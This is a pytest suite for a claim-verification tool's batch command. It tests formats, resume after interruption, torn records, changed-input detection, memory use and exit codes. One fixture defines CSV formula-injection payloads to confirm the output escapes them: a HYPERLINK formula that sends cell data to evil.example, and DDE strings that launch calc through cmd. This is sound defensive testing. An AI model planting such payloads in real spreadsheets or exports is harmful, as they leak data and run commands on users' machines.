"""`verifier batch` and its runner: formats, order, bad lines, resume after interruption, torn records,
changed input, quiet output, exit codes, flat memory. The fake encoder serves the plumbing tests; the
end-to-end ones (marked `model`) use the real model on the demo index built once per session."""

import csv
import json
import signal
import subprocess
import sys
import time
import tracemalloc

import pytest
from click.testing import CliRunner

from conftest import default_sigint
from fakes import FakeEncoder
from verifier import Settings, Verifier
from verifier.batch import ResumeError, run_batch
from verifier.batch import command as batch_command
from verifier import core as batch_run  # the runner judges through Verifier.check_many, so `judge` is patched there
from verifier.cli import cli
from verifier.results import Evidence, Result, Stance, Verdict

CLAIMS = [
    "2,000 Afghan troops fled into Tajikistan",
    "Over 1,000 Afghan troops fled into Tajikistan",
    "The Taliban seized the main border crossing in June 2021",
    'He said "no, never", then left',
    "Russia has a military base in Tajikistan",
    "Afghan troops surrendered to the Taliban",
    "The committee counted 7 trucks, 3 buses",
]


@pytest.fixture(scope="module")
def fake_index(tmp_path_factory):
    from conftest import DEMO

    path = tmp_path_factory.mktemp("batch-fake") / "idx"
    # Without titles in the vectors: with them, the fake (bag-of-words) vectors of the memory test's made-up claims
    # pass the relatedness floor, and the stance reading fills the checks' memo caches (bounded, but larger than
    # that test's 600 claims), which blurs the comparison it makes.
    Verifier.build(path, [DEMO], encoder=FakeEncoder(), settings=Settings(index_context="none"))
    return path


def fake(index, encoder=None, **settings):
    return Verifier.open(index, encoder=encoder or FakeEncoder()).configure(**settings)


def jsonl_lines(path):
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def csv_rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def write_claims(path, fmt, claims):
    if fmt == "txt":
        path.write_text("".join(c + "\n" for c in claims), encoding="utf-8")
    elif fmt == "jsonl":
        path.write_text("".join(json.dumps({"id": f"c{i}", "claim": c}) + "\n" for i, c in enumerate(claims)))
    else:
        with open(path, "w", newline="", encoding="utf-8") as fh:
            writer = csv.writer(fh)
            writer.writerow(["id", "claim"])
            writer.writerows([f"c{i}", c] for i, c in enumerate(claims))
    return path


# --- formats, order, bad lines (fake encoder) ------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["txt", "csv", "jsonl"])
def test_each_input_format_gives_one_record_per_claim_in_input_order(fake_index, tmp_path, fmt):
    claims = write_claims(tmp_path / f"claims.{fmt}", fmt, CLAIMS * 3)
    out = tmp_path / "out.jsonl"
    summary = run_batch(fake(fake_index, batch_chunk_size=4), claims, out)
    records = jsonl_lines(out)
    assert [r["claim"] for r in records] == CLAIMS * 3
    expected_keys = [f"line:{i}" for i in range(1, 22)] if fmt == "txt" else [f"c{i}" for i in range(21)]
    assert [r["key"] for r in records] == expected_keys
    assert all(r["error"] is None and r["verdict"] and r["evidence"] for r in records)
    assert summary.total == summary.checked == 21 and summary.failed == 0 and summary.exit_code == 0


def test_csv_output_is_a_flat_summary_that_round_trips_commas_quotes_and_newlines(fake_index, tmp_path):
    nasty = 'x' * 30 + ', "quoted",\nnext line'
    claims = tmp_path / "claims.csv"
    with open(claims, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["claim", "id", "note"], [CLAIMS[3], "a", 'say "hi",\nbye'], [nasty, "b", ""],
                                  [CLAIMS[0], "c", "plain"]])
    out = tmp_path / "out.csv"
    summary = run_batch(fake(fake_index, max_claim_chars=45, batch_chunk_size=2), claims, out)
    rows = csv_rows(out)
    assert [r["claim"] for r in rows] == [CLAIMS[3], nasty, CLAIMS[0]]
    assert rows[0]["note"] == 'say "hi",\nbye' and rows[1]["error"].startswith("claim is 51 characters long")
    assert rows[2]["verdict"] and rows[2]["top_statement_id"] and [r["line"] for r in rows] == ["2", "4", "6"]
    assert summary.failed == 1


def test_carried_through_columns_keep_their_values_in_both_output_formats(fake_index, tmp_path):
    claims = tmp_path / "claims.jsonl"
    claims.write_text('{"id": 1, "claim": "Afghan troops fled", "desk": "world", "verdict": "false"}\n'
                      '{"claim": "Taliban seized a crossing", "tags": ["a", 2]}\n')
    run_batch(fake(fake_index), claims, tmp_path / "out.jsonl")
    run_batch(fake(fake_index), claims, tmp_path / "out.csv")
    records = jsonl_lines(tmp_path / "out.jsonl")
    assert records[0]["extra"] == {"desk": "world", "verdict": "false"} and records[1]["extra"] == {"tags": ["a", 2]}
    rows = csv_rows(tmp_path / "out.csv")
    assert list(rows[0])[-3:] == ["desk", "input_verdict", "tags"]
    assert (rows[0]["desk"], rows[0]["input_verdict"], rows[0]["tags"]) == ("world", "false", "")
    assert (rows[1]["desk"], rows[1]["tags"], rows[1]["id"], rows[1]["line"]) == ("", '["a", 2]', "", "2")


def test_bad_lines_get_a_record_with_an_error_and_the_run_goes_on(fake_index, tmp_path):
    claims = tmp_path / "claims.jsonl"
    claims.write_text('{"id": "a", "claim": "Afghan troops fled"}\n{broken\n{"id": "c", "claim": ""}\n'
                      '{"id": "d", "claim": "' + "z" * 50 + '"}\n{"id": "e", "claim": "Taliban seized a crossing"}\n')
    summary = run_batch(fake(fake_index, max_claim_chars=40, batch_chunk_size=2), claims, tmp_path / "out.jsonl")
    records = jsonl_lines(tmp_path / "out.jsonl")
    assert [r["key"] for r in records] == ["a", "line:2", "c", "d", "e"]
    assert [bool(r["error"]) for r in records] == [False, True, True, True, False]
    assert "invalid JSON" in records[1]["error"] and "empty" in records[2]["error"] and "limit is 40" in records[3]["error"]
    assert summary.failed == 3 and summary.exit_code == 1 and [f["line"] for f in summary.failures] == [2, 3, 4]
    assert sum(summary.verdicts.values()) == 2


def test_a_claim_whose_checks_raise_fails_alone(fake_index, tmp_path, monkeypatch):
    real = batch_run.judge

    def flaky(claim, hits, settings, *args, **kwargs):
        if "Russia" in claim:
            raise ValueError("boom")
        return real(claim, hits, settings, *args, **kwargs)

    monkeypatch.setattr(batch_run, "judge", flaky)
    claims = write_claims(tmp_path / "claims.txt", "txt", CLAIMS)
    summary = run_batch(fake(fake_index), claims, tmp_path / "out.jsonl")
    records = jsonl_lines(tmp_path / "out.jsonl")
    assert [bool(r["error"]) for r in records] == ["Russia" in c for c in CLAIMS]
    assert "ValueError: boom" in records[4]["error"] and summary.exit_code == 1


def test_a_claim_repeated_in_the_input_is_embedded_once(fake_index, tmp_path):
    encoder = FakeEncoder()
    claims = write_claims(tmp_path / "claims.txt", "txt", [CLAIMS[0], CLAIMS[1]] * 10 + [CLAIMS[2]])
    run_batch(fake(fake_index, encoder, batch_chunk_size=3), claims, tmp_path / "out.jsonl")
    records = jsonl_lines(tmp_path / "out.jsonl")
    assert encoder.encoded == 3 and len(records) == 21
    assert records[0]["evidence"] == records[2]["evidence"] == records[20 - 2]["evidence"]


# --- resume ------------------------------------------------------------------------------------------------
def uninterrupted(fake_index, claims, out):
    run_batch(fake(fake_index, batch_chunk_size=4), claims, out)
    return out.read_bytes()


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_a_run_interrupted_mid_way_resumes_without_duplicates_or_gaps(fake_index, tmp_path, fmt):
    claims = write_claims(tmp_path / "claims.csv", "csv", [f"{c} (case {i})" for i, c in enumerate(CLAIMS * 6)])
    expected = uninterrupted(fake_index, claims, tmp_path / f"expected.{fmt}")
    out = tmp_path / f"out.{fmt}"
    with pytest.raises(KeyboardInterrupt):
        run_batch(fake(fake_index, FakeEncoder(fail_after=17), batch_chunk_size=4), claims, out)
    kept = out.read_bytes()
    assert 0 < len(kept) < len(expected) and expected.startswith(kept)  # whole chunks, in order
    summary = run_batch(fake(fake_index, batch_chunk_size=4), claims, out)
    assert out.read_bytes() == expected
    assert summary.resumed == 16 and summary.checked == 42 - 16 and summary.total == 42


@pytest.mark.parametrize("fmt, cut", [
    ("jsonl", lambda text: text[: text.rindex("\n", 0, len(text) - 1) + 40]),
    ("csv", lambda text: text[: text.rindex("\n", 0, len(text) - 1) + 40]),
    ("csv", lambda text: text[: text.index("\n", text.index('"x, ""y""') ) + 1]),  # inside a quoted newline
])
def test_a_record_torn_by_a_kill_is_dropped_and_redone(fake_index, tmp_path, fmt, cut):
    claims = tmp_path / "claims.csv"
    claims.write_text('claim,note\nAfghan troops fled,a\nTaliban seized a crossing,"x, ""y""\nz"\n'
                      "Russia has a base,c\n", encoding="utf-8")
    expected = uninterrupted(fake_index, claims, tmp_path / f"expected.{fmt}")
    out = tmp_path / f"out.{fmt}"
    out.write_bytes(cut(expected.decode()).encode())
    summary = run_batch(fake(fake_index), claims, out)
    assert summary.torn_dropped and out.read_bytes() == expected


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def formula_index(tmp_path):
    """An index whose one statement's text, id, source and URL are spreadsheet formulas."""
    corpus = tmp_path / "corpus.jsonl"
    corpus.write_text(json.dumps({"id": "@s1", "text": EVIL + " Afghan troops fled into Tajikistan.",
                                  "source": "+cmd|' /C calc'!A0", "url": "-2+3+cmd|' /C calc'!A0"}) + "\n")
    path = tmp_path / "idx"
    Verifier.build(path, [corpus], encoder=FakeEncoder())
    return path


def formula_claims(path):
    with open(path, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["id", "claim", EVIL, "note"]] + [
            [f"=id{i}", f"{EVIL} Afghan troops fled {i}", f"@SUM({i})", f"-{i}"] for i in range(9)
        ] + [["-3", "+1 Afghan troops fled", "\tx", "\rcarried"], ["@bad", "", "", ""], ["", "-2 troops fled", "", ""]])
    return path


def test_csv_results_neutralise_formulas_in_every_text_cell_and_jsonl_keeps_them_verbatim(formula_index, tmp_path):
    claims = formula_claims(tmp_path / "claims.csv")
    run_batch(fake(formula_index), claims, tmp_path / "out.csv")
    run_batch(fake(formula_index), claims, tmp_path / "out.jsonl")
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as fh:
        header, *rows = list(csv.reader(fh))
    assert header[-2:] == ["'" + EVIL, "note"]
    numbers = {"confidence", "top_score", "line"}
    for row in rows:
        for name, cell in zip(header, row):
            assert name in numbers or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    first = dict(zip(header, rows[0]))
    assert first["id"] == "'=id0" and first["claim"] == f"'{EVIL} Afghan troops fled 0" and first["note"] == "'-0"
    assert first["top_statement_id"] == "'@s1" and first["top_statement"].startswith("'" + EVIL)
    assert first["top_source"] == "'+cmd|' /C calc'!A0" and first["top_url"] == "'-2+3+cmd|' /C calc'!A0"
    assert [dict(zip(header, r))["id"] for r in rows[-3:]] == ["'-3", "'@bad", ""]
    records = jsonl_lines(tmp_path / "out.jsonl")
    assert records[0]["id"] == "=id0" and records[0]["claim"] == f"{EVIL} Afghan troops fled 0"
    assert records[0]["extra"] == {EVIL: "@SUM(0)", "note": "-0"}
    assert records[0]["evidence"][0]["statement"]["source"] == "+cmd|' /C calc'!A0"


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_run_with_formula_cells_resumes_to_the_same_results_file(formula_index, tmp_path, fmt):
    claims = formula_claims(tmp_path / "claims.csv")
    expected = uninterrupted(formula_index, claims, tmp_path / f"expected.{fmt}")
    out = tmp_path / f"out.{fmt}"
    with pytest.raises(KeyboardInterrupt):
        run_batch(fake(formula_index, FakeEncoder(fail_after=5), batch_chunk_size=4), claims, out)
    kept = out.read_bytes()
    assert 0 < len(kept) < len(expected) and expected.startswith(kept)
    summary = run_batch(fake(formula_index, batch_chunk_size=4), claims, out)
    assert out.read_bytes() == expected and summary.resumed > 0 and summary.total == 12
    again = run_batch(fake(formula_index, batch_chunk_size=4), claims, out)  # complete: nothing left to check
    assert (again.resumed, again.checked, again.failed) == (12, 0, 1) and out.read_bytes() == expected
    assert again.failures == [{"line": 13, "key": "@bad", "error": again.failures[0]["error"]}]
    # An input edited under the results file is still told apart.
    lines = claims.read_text(encoding="utf-8").splitlines(keepends=True)
    claims.write_text("".join(lines[:2] + [lines[2].replace("=id1", "=id1x", 1)] + lines[3:]), encoding="utf-8")
    with pytest.raises(ResumeError, match="the input changed"):
        run_batch(fake(formula_index, batch_chunk_size=4), claims, out)


def test_cli_batch_csv_output_neutralises_formulas(fake_cli, formula_index, tmp_path):
    claims = formula_claims(tmp_path / "claims.csv")
    result = invoke("batch", claims, "--index", formula_index, "--out", tmp_path / "x.csv")
    assert result.exit_code == 1, result.output  # the empty claim
    text = (tmp_path / "x.csv").read_text(encoding="utf-8")
    assert "'" + EVIL.replace('"', '""') in text and "\n=" not in text and ",=" not in text and ',"=' not in text


def test_a_results_file_edited_in_the_middle_is_refused_and_left_alone(fake_index, tmp_path):
    claims = write_claims(tmp_path / "claims.txt", "txt", CLAIMS)
    out = tmp_path / "out.jsonl"
    lines = uninterrupted(fake_index, claims, out).decode().splitlines(keepends=True)
    out.write_text("".join(lines[:2] + ["{not json\n"] + lines[3:5]))
    before = out.read_bytes()
    with pytest.raises(ResumeError, match=r"out.jsonl:3 is not a record"):
        run_batch(fake(fake_index), claims, out)
    assert out.read_bytes() == before


@pytest.mark.parametrize("content", ["name,email\nann,a@x\n", "just some notes without a newline"])
def test_a_file_that_is_not_a_results_file_is_refused_and_left_alone(fake_index, tmp_path, content):
    claims = write_claims(tmp_path / "claims.txt", "txt", CLAIMS)
    out = tmp_path / "mine.csv"
    out.write_text(content)
    with pytest.raises(ResumeError, match="not a record of `verifier batch`"):
        run_batch(fake(fake_index), claims, out)
    assert out.read_text() == content


def test_a_changed_input_is_refused_but_lines_added_at_the_end_are_checked(fake_index, tmp_path):
    claims = write_claims(tmp_path / "claims.csv", "csv", CLAIMS[:4])
    out = tmp_path / "out.jsonl"
    run_batch(fake(fake_index), claims, out)
    write_claims(claims, "csv", CLAIMS)  # three more at the end
    summary = run_batch(fake(fake_index), claims, out)
    assert (summary.resumed, summary.checked) == (4, 3) and [r["claim"] for r in jsonl_lines(out)] == CLAIMS
    write_claims(claims, "csv", CLAIMS[:2] + ["An edited claim"] + CLAIMS[3:])
    with pytest.raises(ResumeError, match=r"line 4 \(c2: 'An edited claim'\) is not what .* holds"):
        run_batch(fake(fake_index), claims, out)
    write_claims(claims, "csv", CLAIMS[:5])
    with pytest.raises(ResumeError, match="holds more records than"):
        run_batch(fake(fake_index), claims, out)


def test_new_columns_in_the_input_are_a_change_for_a_csv_results_file(fake_index, tmp_path):
    claims = tmp_path / "claims.csv"
    claims.write_text("claim\nAfghan troops fled\n")
    run_batch(fake(fake_index), claims, tmp_path / "out.csv")
    claims.write_text("claim,desk\nAfghan troops fled,world\n")
    with pytest.raises(ResumeError, match=r"carries the columns \[\] but .* now has \['desk'\]"):
        run_batch(fake(fake_index), claims, tmp_path / "out.csv")


def test_overwrite_starts_the_results_file_over(fake_index, tmp_path):
    claims = write_claims(tmp_path / "claims.txt", "txt", CLAIMS[:3])
    out = tmp_path / "out.jsonl"
    run_batch(fake(fake_index), claims, out)
    write_claims(claims, "txt", CLAIMS[3:])
    with pytest.raises(ResumeError):
        run_batch(fake(fake_index), claims, out)
    summary = run_batch(fake(fake_index), claims, out, overwrite=True)
    assert [r["claim"] for r in jsonl_lines(out)] == CLAIMS[3:] and summary.resumed == 0


def test_the_claims_file_cannot_be_its_own_results_file(fake_index, tmp_path):
    claims = write_claims(tmp_path / "claims.jsonl", "jsonl", CLAIMS)
    with pytest.raises(ResumeError, match="is the claims file itself"):
        run_batch(fake(fake_index), claims, tmp_path / "." / "claims.jsonl")
    assert len(claims.read_text().splitlines()) == len(CLAIMS)


# --- streaming -----------------------------------------------------------------------------------------------
def test_memory_stays_flat_however_long_the_input(fake_index, tmp_path, monkeypatch):
    """Ten times the lines, ten times the output, the same peak memory: the runner reads lazily and writes
    each chunk as it goes. (The checks are stubbed: their memo caches are bounded, but filling them would
    blur the comparison.)"""

    def light_judge(claim, hits, settings, claim_id=None, *_):
        evidence = tuple(Evidence(h.statement, h.rank, h.score, h.dense, Stance.NEUTRAL, 0.0) for h in hits)
        return Result(claim, Verdict.NOT_ENOUGH_EVIDENCE, 0.5, (), evidence, claim_id)

    monkeypatch.setattr(batch_run, "judge", light_judge)
    WORDS = "afghan troops fled border report counted committee taliban district crossing convoy village".split()
    WORDS += "army police river bridge city town airport road market school hospital office station".split()
    WORDS += "north south east west centre".split()
    verifier = fake(fake_index, batch_chunk_size=50, query_cache_size=100)

    def run(n):
        claims = tmp_path / f"claims-{n}.csv"
        with open(claims, "w", newline="") as fh:
            writer = csv.writer(fh)
            writer.writerow(["id", "claim", "note"])
            writer.writerows([f"r{i}", " ".join(WORDS[i // 30**j % 30] for j in range(3)) + " trucks", f"note {i}"]
                             for i in range(n))  # distinct claims from few words (the stemmer caches words)
        tracemalloc.reset_peak()
        before = tracemalloc.get_traced_memory()[0]
        run_batch(verifier, claims, tmp_path / f"out-{n}.jsonl", k=3)
        return tracemalloc.get_traced_memory()[1] - before

    tracemalloc.start()
    try:
        run(300)  # loads what is loaded once per process
        small, large = run(600), run(6000)
    finally:
        tracemalloc.stop()
    assert not any(r.get("error") for r in jsonl_lines(tmp_path / "out-600.jsonl"))  # the stub was called
    assert (tmp_path / "out-6000.jsonl").stat().st_size > 9 * (tmp_path / "out-600.jsonl").stat().st_size
    assert large - small < 200_000, (small, large)


# --- the command ---------------------------------------------------------------------------------------------
@pytest.fixture
def fake_cli(fake_index, monkeypatch):
    """`verifier batch` over the fake-encoder index (the command opens the index itself)."""
    real_open = Verifier.open

    def open_fake(path, settings=None, encoder=None):
        return real_open(path, settings, FakeEncoder(fail_after=open_fake.fail_after))

    open_fake.fail_after = None

    monkeypatch.setattr(batch_command.Verifier, "open", open_fake)
    return open_fake


def invoke(*args):
    return CliRunner().invoke(cli, [str(a) for a in args])


def test_cli_exit_code_is_0_when_every_line_is_checked_and_1_when_some_fail(fake_cli, fake_index, tmp_path):
    good = write_claims(tmp_path / "good.txt", "txt", CLAIMS)
    result = invoke("batch", good, "--index", fake_index, "--out", tmp_path / "good.csv")
    assert result.exit_code == 0, result.output
    assert f"Checked {len(CLAIMS)} claims" in result.output and "0 failed" in result.output
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"claim": "Afghan troops fled"}\n{"claim": ""}\n')
    result = invoke("batch", bad, "--index", fake_index, "--out", tmp_path / "bad.jsonl.out.jsonl")
    assert result.exit_code == 1 and "failed line 2 (line:2): claim is empty" in result.output
    assert "1 failed" in result.output


def test_cli_exit_code_is_2_when_the_run_cannot_start(fake_cli, fake_index, tmp_path):
    claims = write_claims(tmp_path / "claims.txt", "txt", CLAIMS)
    assert invoke("batch", claims, "--index", tmp_path / "none", "--out", tmp_path / "o.jsonl").exit_code == 2
    wrong = invoke("batch", claims, "--index", fake_index, "--out", tmp_path / "o.xlsx")
    assert wrong.exit_code == 2 and "must end in .jsonl" in wrong.output
    invoke("batch", claims, "--index", fake_index, "--out", tmp_path / "o.jsonl")
    write_claims(claims, "txt", CLAIMS[::-1])
    changed = invoke("batch", claims, "--index", fake_index, "--out", tmp_path / "o.jsonl")
    assert changed.exit_code == 2 and "the input changed" in changed.output and "--overwrite" in changed.output
    latin1 = tmp_path / "latin1.txt"
    latin1.write_bytes(b"First claim\ncaf\xe9 claims\n")
    undecodable = invoke("batch", latin1, "--index", fake_index, "--out", tmp_path / "l.jsonl")
    assert undecodable.exit_code == 2 and "not UTF-8" in undecodable.output


def test_cli_interrupted_run_exits_130_and_says_how_to_resume(fake_cli, fake_index, tmp_path):
    claims = write_claims(tmp_path / "claims.txt", "txt", [f"{c} ({i})" for i, c in enumerate(CLAIMS * 4)])
    fake_cli.fail_after = 10
    out = tmp_path / "out.jsonl"
    result = invoke("--set", "batch_chunk_size=4", "batch", claims, "--index", fake_index, "--out", out)
    assert result.exit_code == 130 and "run the same command again to resume" in result.output
    assert len(out.read_text().splitlines()) == 8
    fake_cli.fail_after = None
    result = invoke("--set", "batch_chunk_size=4", "batch", claims, "--index", fake_index, "--out", out, "--json")
    summary = json.loads(result.output)
    assert result.exit_code == 0 and summary["resumed"] == 8 and summary["checked"] == 20 and summary["total"] == 28


def test_no_progress_bar_when_stderr_is_not_a_terminal_or_with_quiet(fake_cli, fake_index, tmp_path, monkeypatch):
    claims = write_claims(tmp_path / "claims.txt", "txt", CLAIMS)
    plain = invoke("batch", claims, "--index", fake_index, "--out", tmp_path / "a.jsonl")
    monkeypatch.setattr(batch_command, "_stderr_is_terminal", lambda: True)
    quiet = invoke("batch", claims, "--index", fake_index, "--out", tmp_path / "b.jsonl", "--quiet")
    shown = invoke("batch", claims, "--index", fake_index, "--out", tmp_path / "c.jsonl")
    for result in (plain, quiet):
        assert "Checking" not in result.output and "claim/s" not in result.output and "\r" not in result.output
        assert "Checked 7 claims" in result.output
    assert "Checking: 100%" in shown.output and "7/7" in shown.output and "claim/s" in shown.output


# --- end to end with the real model ----------------------------------------------------------------------------
@pytest.mark.model
def test_batch_on_the_demo_index_gives_the_same_verdicts_as_check(demo_index, tmp_path):
    claims = tmp_path / "claims.csv"
    claims.write_text('id,claim,desk\nt1,"2,000 Afghan troops fled into Tajikistan",world\n'
                      't2,"Over 1,000 Afghan troops fled into Tajikistan",world\nt3,,politics\n', encoding="utf-8")
    result = invoke("batch", claims, "--index", demo_index, "--out", tmp_path / "out.csv")
    assert result.exit_code == 1, result.output
    rows = csv_rows(tmp_path / "out.csv")
    assert [(r["id"], r["verdict"], r["top_statement_id"], r["desk"]) for r in rows] == [
        ("t1", "contradicted", "afp-2021-07-05-01", "world"),
        ("t2", "supported", "afp-2021-07-05-01", "world"),
        ("t3", "", "", "politics"),
    ]
    assert 'claim "2,000" contradicts source "1,037"' in rows[0]["reasons"] and rows[2]["error"]
    assert invoke("batch", claims, "--index", demo_index, "--out", tmp_path / "out.jsonl").exit_code == 1
    records = jsonl_lines(tmp_path / "out.jsonl")
    single = Verifier.open(demo_index).check("2,000 Afghan troops fled into Tajikistan", claim_id="t1").to_dict()
    assert {k: v for k, v in records[0].items() if k not in ("key", "line", "error", "extra")} == single


@pytest.mark.model
@pytest.mark.parametrize("fmt, sig", [("jsonl", signal.SIGKILL), ("csv", signal.SIGINT)])
def test_a_killed_batch_process_resumes_to_a_complete_results_file(demo_index, tmp_path, fmt, sig):
    claims = write_claims(tmp_path / "claims.jsonl", "jsonl",
                          [f"{c}, said report {i}" for i, c in enumerate(CLAIMS * 60)])
    out = tmp_path / f"out.{fmt}"
    command = [sys.executable, "-m", "verifier", "--set", "batch_chunk_size=7", "batch", str(claims),
               "--index", str(demo_index), "--out", str(out)]
    proc = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, preexec_fn=default_sigint)
    deadline = time.time() + 120
    while time.time() < deadline and (not out.exists() or out.stat().st_size < 20_000):
        time.sleep(0.05)
    proc.send_signal(sig)
    proc.wait(timeout=60)
    assert proc.returncode == (-9 if sig == signal.SIGKILL else 130)
    partial = out.stat().st_size
    done = subprocess.run(command + ["--quiet"], capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    assert out.stat().st_size > partial and "were already there" in done.stdout
    keys = [r["key"] for r in jsonl_lines(out)] if fmt == "jsonl" else [r["id"] for r in csv_rows(out)]
    assert keys == [f"c{i}" for i in range(len(CLAIMS) * 60)]
